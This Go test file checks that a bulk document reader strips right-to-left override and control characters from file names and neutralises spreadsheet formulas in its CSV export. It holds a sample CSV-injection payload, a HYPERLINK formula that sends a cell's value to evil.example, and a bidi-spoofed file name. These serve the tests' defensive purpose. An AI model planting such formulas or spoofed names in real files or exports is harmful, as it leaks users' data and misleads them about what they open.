package bulk

import (
	"archive/zip"
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/shenbao/shenbao"
)

// TestWalkShowsCleanNames: a file or zip member named with a
// right-to-left override or control characters is listed, read and
// reported under its name without them (issue 22 item 10).
func TestWalkShowsCleanNames(t *testing.T) {
	src, _ := filepath.Glob("../testdata/corpus/*_docx.docx")
	if len(src) == 0 {
		t.Fatal("corpus copies missing")
	}
	data, err := os.ReadFile(src[0])
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a\u202Eexe.pdf.docx"), data, 0o644); err != nil {
		t.Fatal(err)
	}
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	w, _ := zw.Create("tab\there\u2066.docx")
	w.Write(data)
	zw.Close()
	os.WriteFile(filepath.Join(dir, "batch.zip"), zb.Bytes(), 0o644)

	items, fails := Walk([]string{dir}, 100<<20)
	if len(items) != 2 || len(fails) != 0 {
		t.Fatalf("items %+v, fails %+v", items, fails)
	}
	want := []string{filepath.Join(dir, "aexe.pdf.docx"), filepath.Join(dir, "batch.zip") + "!/tabhere.docx"}
	for i, it := range items {
		if it.Path != want[i] {
			t.Errorf("item %d: %q, want %q", i, it.Path, want[i])
		}
	}
	o := runner(t, t.TempDir()).Run(context.Background(), items)
	for _, r := range o.Results {
		if r.Report == nil {
			t.Fatalf("%s not read: %+v", r.Path, r.Failure)
		}
	}
	if out := outputs(t, o, fails); strings.ContainsAny(out, "\u202E\u2066\t") {
		t.Errorf("the outputs keep a control or bidi character:\n%s", out)
	}
}

// TestCSVDefusesFormulas: a cluster name, a finding or a file name that an
// applicant wrote as a formula is written to the bulk CSV as text (issue 22
// item 9: =HYPERLINK(…) was written as a live formula).
func TestCSVDefusesFormulas(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"点我")`
	rep := &shenbao.Report{File: "@cmd.docx", Edition: shenbao.EditionMatch{ID: "nat2024"},
		Fields:   []shenbao.Field{{ID: "name", Key: "name", Value: evil}, {ID: "region_prov", Key: "region_prov", Value: "+重庆市"}},
		Findings: []shenbao.Finding{{Kind: "missing", Severity: shenbao.SeverityError, Message: "-1+1", Label: "\t=1"}}}
	o := &Outcome{Results: []Result{{Path: rep.File, Report: rep}}}
	out := outputs(t, o, []Failure{{Path: "=1+1.pdf", Code: shenbao.EINVALID, Err: "坏"}})
	for _, want := range []string{"'" + evil, "'+重庆市", "'@cmd.docx", "'-1+1", "'=1+1.pdf"} {
		if !strings.Contains(out, strings.ReplaceAll(want, `"`, `""`)) {
			t.Errorf("the CSV lacks %q:\n%s", want, out)
		}
	}
}
